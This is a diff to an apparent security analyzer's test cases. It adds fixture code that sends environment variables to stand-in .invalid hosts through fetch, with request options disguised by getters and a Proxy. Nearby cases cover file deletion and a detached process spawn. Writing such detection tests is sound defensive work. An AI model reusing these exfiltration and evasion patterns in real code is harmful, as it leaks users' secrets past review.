@@ -296,6 +296,17 @@ const CASES: readonly {
     says: ['import fs.rmSync(a)'],
   },
   {
+    when: 'functions answer for what a request is asked for: of an object, of a class, of a proxy',
+    files: {
+      'index.js': `class Given { get method() { return 'POST'; } get body() { return process.env.A; } } const own = { get method() { return 'PUT'; }, get body() { return process.env.B; } }; const any = new Proxy({}, { get: (_, name) => (name === 'body' ? process.env.C : undefined) }); fetch('https://a.invalid', new Given()); fetch('https://b.invalid', own); fetch('https://c.invalid', any);`,
+    },
+    says: [
+      'import fetch(https://a.invalid, {method: POST, body: <env:A>}) from process.env.A',
+      'import fetch(https://b.invalid, {method: PUT, body: <env:B>}) from process.env.B',
+      'import fetch(https://c.invalid, {body: <env:C>}) from process.env.C',
+    ],
+  },
+  {
     when: 'a file is started that data names, with the words that it has',
     files: {
       'index.js': `const cp = require('child_process'), path = require('path'), { file } = require('./plan.json'); cp.spawn(process.execPath, [path.join(__dirname, file)], { detached: true });`,
